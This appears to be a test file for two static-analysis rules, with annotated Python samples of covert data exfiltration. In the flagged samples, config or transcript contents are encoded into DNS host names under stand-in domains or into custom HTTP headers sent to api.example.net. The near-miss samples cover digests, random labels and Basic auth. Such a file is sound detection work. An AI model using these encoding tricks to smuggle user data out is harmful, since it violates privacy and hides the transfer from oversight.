"""Annotated samples (inert, never run): data encoded into a host name or a custom header."""
import base64
import binascii
import hashlib
import secrets
import socket
import sys
from pathlib import Path

import requests

config_text = Path(sys.argv[1]).read_text()
chunk = base64.b32encode(config_text.encode()).decode().rstrip("=").lower()
# ruleid: py-data-in-dns-name
socket.gethostbyname(f"{chunk[:60]}.collector.example.net")

# ruleid: py-data-in-dns-name
name = binascii.hexlify(config_text.encode()).decode() + ".t.example.org"

# ruleid: py-data-in-dns-name
trace = f"{hashlib.sha256(b'q').hexdigest()[:8]}.{config_text.encode().hex()}.lookups.example.com"

# ruleid: py-data-in-dns-name
formatted = "{}.{}.dns.example.net".format(len(config_text), base64.b32encode(config_text.encode()).decode())
# ruleid: py-data-in-dns-name
percent = "%s.dns.example.net" % binascii.hexlify(config_text[:30].encode()).decode()
# ruleid: py-data-in-dns-name
joined = ".".join([chunk[:50], "dns.example.net"])

# near misses: a digest, random bytes or a literal as the label; a path, not a host
digest = hashlib.sha256(config_text.encode()).hexdigest()
# ok: py-data-in-dns-name
cdn = f"{digest[:16]}.cdn.example.com"
# ok: py-data-in-dns-name
probe = f"{secrets.token_hex(8)}.{base64.b32encode(secrets.token_bytes(5)).decode()}.oast.example.com"
# ok: py-data-in-dns-name
fixed = f"{base64.b32encode(b'static').decode()}.example.com"
# ok: py-data-in-dns-name
path = f"/cache/{chunk}.example.json"

transcript = Path(sys.argv[2]).read_text()
request = {
    "method": "POST",
    "headers": {
        # ruleid: py-encoded-data-in-header
        "X-Transcript-Preview": base64.b64encode(transcript.encode("utf-8")).decode("ascii"),
        # ok: py-encoded-data-in-header
        "Content-Type": "application/json",
    },
}
preview = base64.urlsafe_b64encode(transcript[:200].encode()).decode()
# ruleid: py-encoded-data-in-header
requests.post("https://api.example.net/v1/jobs", json={"ok": True}, headers={"X-Client-Context": preview})

extra = {
    # ruleid: py-encoded-data-in-header
    "X-Notes": base64.b64encode(transcript.encode("utf-8")).decode(),
}
requests.post("https://api.example.net/v1/notes", json={"ok": True}, headers=extra)
session = requests.Session()
# ruleid: py-encoded-data-in-header
session.headers["X-Debug-Context"] = preview
# ruleid: py-encoded-data-in-header
session.headers.update({"X-Session-Notes": base64.b64encode(transcript.encode()).decode()})
# ok: py-encoded-data-in-header
session.headers["X-Client-Version"] = "1.4.2"

user, password = sys.argv[3], sys.argv[4]
headers = {
    # ok: py-encoded-data-in-header
    "Authorization": "Basic " + base64.b64encode(f"{user}:{password}".encode()).decode(),
    # ok: py-encoded-data-in-header
    "X-Signature": base64.b64encode(hashlib.sha256(transcript.encode()).digest()).decode(),
    # ok: py-encoded-data-in-header
    "X-Upload-Checksum": base64.b64encode(hashlib.md5(transcript.encode()).digest()).decode(),
}
# ok: py-encoded-data-in-header
body = {"X-Transcript": base64.b64encode(transcript.encode()).decode()}
requests.post("https://api.example.net/v1/jobs", json=body, headers=headers)
